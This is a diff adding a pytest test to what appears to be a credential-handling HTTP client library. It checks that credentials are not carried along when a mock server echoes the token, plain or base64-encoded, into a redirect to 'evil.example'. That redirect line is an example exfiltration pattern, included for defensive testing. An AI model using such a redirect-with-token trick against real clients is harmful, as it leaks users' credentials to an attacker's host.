@@ -5,6 +5,7 @@ from __future__ import annotations
 import copy
 import inspect
 import sys
+from base64 import b64encode
 from functools import partial
 from types import SimpleNamespace
 from urllib.parse import quote
@@ -387,6 +388,33 @@ def test_a_mock_transport_sees_it_at_home_only(sandbox, driver, bound, header, t
             assert send("GET", home).status_code == 200
         assert "_redirect_headers" not in vars(client_of(send))
     assert [token for _, token in seen] == ["first-token", "first-token" if target == "/x" else None]
+
+
+@pytest.mark.drivers(httpx=True)
+@pytest.mark.parametrize("place", ["header", "query", "path"])
+@pytest.mark.parametrize("disguised", [str, lambda text: b64encode(text.encode()).decode()])
+def test_a_mock_transport_that_says_it_back_in_a_redirect_elsewhere_leads_nowhere(
+    sandbox, driver, bound, place, disguised
+):
+    kinds = {"header": {"X-Key": "{token}"}, "query": {"key": "{token}"}, "path": "/bot{token}"}
+    sandbox.add_connector(Connector("acme", hosts=["x.example"], kinds={place: Placement(**{place: kinds[place]})}))
+    sandbox.connect("acme", "user-1", credential="first-token")
+    seen = []
+
+    def handle(request):
+        seen.append(str(request.url))
+        said = disguised(f"{request.url} {request.headers.get('x-key')}")
+        return driver.lib.Response(302, headers={"location": f"https://evil.example/?next={said}"})
+
+    with (
+        driver.session(follow_redirects=True, transport=driver.lib.MockTransport(handle)) as send,
+        bound(client_of(send), kind=place),
+        pytest.raises(HostNotAllowed, match="has the credential in it") as caught,
+    ):
+        send("GET", sandbox.provider_url("acme"))
+    assert len(seen) == 1
+    assert (caught.value.connector, caught.value.context) == ("acme", "user-1")
+    assert "first-token" not in f"{caught.value} {caught.value.hint}"
 
 
 @pytest.mark.drivers(httpx=True, sync=True)
